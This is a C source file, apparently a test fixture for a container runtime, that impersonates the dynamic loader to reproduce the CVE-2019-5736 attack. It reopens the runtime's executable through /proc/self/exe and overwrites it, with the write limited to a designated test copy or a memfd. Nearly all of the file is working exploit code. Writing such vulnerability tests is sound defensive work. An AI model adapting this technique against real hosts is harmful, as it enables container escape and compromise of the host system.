/* fakeld: stands in for the dynamic loader (/lib64/ld-linux-x86-64.so.2) in
 * a test rootfs: the CVE-2019-5736 attack, from inside the container.
 *
 * A container program that is a script "#!/proc/self/exe" makes the kernel
 * execute the runtime's own executable (whatever /proc/self/exe of the
 * process doing the final execve is) as the container's process. That
 * executable is dynamically linked, so the kernel then loads its
 * PT_INTERP, resolved in the container's mount namespace: this program. So
 * it runs as a process whose /proc/self/exe is the runtime's file. It:
 *   1. opens /proc/self/exe with O_PATH and reports what it is (name, dev, ino);
 *   2. tries to open it for writing directly (ETXTBSY while it runs);
 *   3. forks; the parent execs /bin/sleep (so it no longer runs the file),
 *      the child execs this program again as "fakeld-wait" (a fork still
 *      maps the file), keeping the O_PATH fd, and retries opening
 *      /proc/self/fd/N for writing until the file stops being busy
 *      (ETXTBSY: while any process runs it), then writes "PWNED!" at
 *      offset 0 -- only if the file is the one named by PYRT_TARGET=dev:ino
 *      in the environment (the test's private copy of the runtime) or a
 *      memfd, never anything else.
 * Report lines start with "fakeld:" on stdout.
 *
 * Freestanding (no libc): as an ELF interpreter it gets the main program's
 * auxv, which a static libc's startup would misread. x86_64 only. */

#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_pwrite64 18
#define SYS_nanosleep 35
#define SYS_fork 57
#define SYS_execve 59
#define SYS_readlink 89
#define SYS_exit_group 231

#define O_WRONLY 01
#define O_PATH 010000000
#define ETXTBSY 26

static long sys6(long n, long a, long b, long c, long d, long e, long f)
{
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    long ret;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return ret;
}
#define sys3(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0, 0, 0)

__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n mov %rsp,%rdi\n and $-16,%rsp\n call cmain\n hlt\n");

static unsigned long slen(const char *s) { unsigned long n = 0; while (s[n]) n++; return n; }
static void out(const char *s) { sys3(SYS_write, 1, s, slen(s)); }
static void outnum(long v)
{
    char b[24]; int i = 23; int neg = v < 0; unsigned long u = neg ? -v : v;
    b[i] = 0;
    do { b[--i] = '0' + u % 10; u /= 10; } while (u);
    if (neg) b[--i] = '-';
    out(b + i);
}
static void outres(const char *key, long r)  /* "key=ok" or "key=-errno" */
{
    out(" "); out(key); out("=");
    if (r >= 0) out("ok"); else outnum(r);
}
static int starts(const char *s, const char *p) { while (*p) if (*s++ != *p++) return 0; return 1; }
static unsigned long parse(const char **s)
{
    unsigned long v = 0;
    while (**s >= '0' && **s <= '9') v = v * 10 + (*(*s)++ - '0');
    return v;
}
static void fdpath(char *buf, long fd)  /* "/proc/self/fd/<fd>" */
{
    const char *p = "/proc/self/fd/"; int i = 0; char d[24]; int j = 0;
    while (*p) buf[i++] = *p++;
    do { d[j++] = '0' + fd % 10; fd /= 10; } while (fd);
    while (j) buf[i++] = d[--j];
    buf[i] = 0;
}
static void pause_ms(long ms)
{
    long ts[2] = {0, ms * 1000000L};
    sys3(SYS_nanosleep, ts, 0, 0);
}

static void wait_and_write(char **argv);

void cmain(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = (char **)(sp + 1 + argc + 1);
    if (argc == 3 && starts(argv[0], "fakeld-wait")) {
        wait_and_write(argv);
        sys3(SYS_exit_group, 0, 0, 0);
    }
    unsigned long want_dev = 0, want_ino = 0;
    for (char **e = envp; *e; e++) {
        if (starts(*e, "PYRT_TARGET=")) {
            const char *s = *e + 12;
            want_dev = parse(&s);
            if (*s == ':') s++;
            want_ino = parse(&s);
        }
    }
    long fd = sys3(SYS_open, "/proc/self/exe", O_PATH, 0);
    out("fakeld: start");
    outres("exe_open", fd);
    if (fd < 0) { out("\n"); sys3(SYS_exit_group, 0, 0, 0); }
    unsigned long st[18];
    sys3(SYS_fstat, fd, st, 0);
    char proc[64], name[256];
    fdpath(proc, fd);
    long n = sys3(SYS_readlink, proc, name, sizeof(name) - 1);
    name[n > 0 ? n : 0] = 0;
    int is_target = st[0] == want_dev && st[1] == want_ino;
    int is_memfd = starts(name, "/memfd:");
    out(" exe="); out(name);
    out(" dev="); outnum((long)st[0]); out(" ino="); outnum((long)st[1]);
    out(is_target ? " target=yes" : " target=no");
    out(is_memfd ? " memfd=yes" : " memfd=no");
    outres("direct_w", sys3(SYS_open, "/proc/self/exe", O_WRONLY, 0));
    out("\n");

    long pid = sys3(SYS_fork, 0, 0, 0);
    if (pid > 0) {  /* stop running the file: exec a program of the container */
        char *argv[] = {"sleep", "3", 0};
        sys3(SYS_execve, "/bin/sleep", argv, envp);
        sys3(SYS_exit_group, 0, 0, 0);
    }
    char fdnum[24], flags[3] = {is_target ? 't' : '-', is_memfd ? 'm' : '-', 0};
    fdpath(proc, fd);
    for (int i = 0; (fdnum[i] = proc[14 + i]); i++)
        ;
    char *wargv[] = {"fakeld-wait", fdnum, flags, 0};
    sys3(SYS_execve, "/lib64/ld-linux-x86-64.so.2", wargv, envp);
    out("fakeld: done cannot-exec-wait\n");
    sys3(SYS_exit_group, 0, 0, 0);
}

/* "fakeld-wait FD FLAGS": hold the O_PATH fd in a process that does not map
 * the runtime's file, and wait until it can be opened for writing. */
static void wait_and_write(char **argv)
{
    const char *s = argv[1];
    long fd = (long)parse(&s);
    int is_target = argv[2][0] == 't', is_memfd = argv[2][1] == 'm';
    char proc[64];
    fdpath(proc, fd);
    for (int i = 0; i < 250; i++) {
        long w = sys3(SYS_open, proc, O_WRONLY, 0);
        if (w == -ETXTBSY) { pause_ms(10); continue; }
        out("fakeld: done");
        outres("reopen_w", w);
        if (w >= 0) {
            if (is_target || is_memfd)
                outres("write", sys6(SYS_pwrite64, w, (long)"PWNED!", 6, 0, 0, 0));
            else
                out(" write=skipped-not-the-target");
        }
        out("\n");
        sys3(SYS_exit_group, 0, 0, 0);
    }
    out("fakeld: done reopen_w=-26-timeout\n");
}
